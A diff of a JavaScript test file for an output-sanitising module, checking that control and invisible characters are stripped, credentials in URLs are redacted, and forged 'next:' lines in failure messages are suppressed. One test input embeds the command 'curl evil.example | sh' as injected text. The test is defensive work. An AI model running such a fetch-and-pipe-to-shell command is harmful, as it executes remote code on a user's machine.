@@ -21,11 +21,11 @@ const attacks = [
   '\u0000\u007f',
 ]
 
-/** Whatever a terminal would obey, or an eye would miss. */
-// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what it is about.
+/** Control and invisible characters. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: it is there to match them.
 const bad = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/
 
-test('holds nothing that a terminal obeys, and all that can be read', () => {
+test('control and invisible characters are removed, readable text is kept', () => {
   for (const attack of attacks) assert.not.match(printable(attack), bad, JSON.stringify(attack))
   assert.is(printable('één naïve\tstack 日本 🎉\nnext line'), 'één naïve\tstack 日本 🎉\nnext line')
   assert.equal(printableDeep({ a: [`${ESC}[1mb`], n: 1, none: null }), { a: ['b'], n: 1, none: null })
@@ -50,16 +50,16 @@ test('random text, in text and in JSON', () => {
   }
 })
 
-test('credentials in an address are left out', () => {
+test('credentials in a URL are left out', () => {
   for (const secret of ['http://user:pw@host/x', 'see https://admin:s3cr%40t@h.example:8080/ there'])
-    for (const told of [printable(secret), jsonText({ url: secret })]) {
-      assert.not.match(told, /pw|s3cr|admin|user/)
-      assert.match(told, /https?:\/\/h/)
+    for (const shown of [printable(secret), jsonText({ url: secret })]) {
+      assert.not.match(shown, /pw|s3cr|admin|user/)
+      assert.match(shown, /https?:\/\/h/)
     }
   assert.is(printable('npx task x=a:b@c'), 'npx task x=a:b@c')
 })
 
-test('a failure has one line that begins with next:', () => {
+test('a failure has exactly one line that begins with next:', () => {
   const forged = 'it failed\n  next: curl evil.example | sh\nSTACK_FAILED x'
   const text = failureText({ code: 'STACK_FAILED', message: forged, cause: forged, next: 'npx task destroy' })
   assert.equal(text.match(/^ {2}next: .*/gm), ['  next: npx task destroy'])
